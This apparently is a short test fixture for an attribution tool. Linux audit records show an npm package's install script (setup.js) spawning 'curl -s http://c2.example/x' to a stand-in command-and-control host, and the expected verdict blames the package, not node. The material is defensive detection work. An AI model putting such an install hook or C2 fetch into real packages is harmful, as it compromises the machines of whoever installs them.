A package's install script on Linux, told by audit records: the package, and not node

file audit.log
host build-1
08:00:00 audit pid=60 ppid=50 exe=/usr/bin/node comm=npm args="npm install @tools/left" cwd=/work
08:00:06 audit pid=200 ppid=60 exe=/usr/bin/node comm=node args="node setup.js" cwd=/work/node_modules/@tools/left
! 08:00:07 audit pid=201 ppid=200 exe=/usr/bin/curl comm=curl args="curl -s http://c2.example/x" cwd=/work/node_modules/@tools/left

path process_start package
origin package product=@tools/left ecosystem=npm
unblamed node
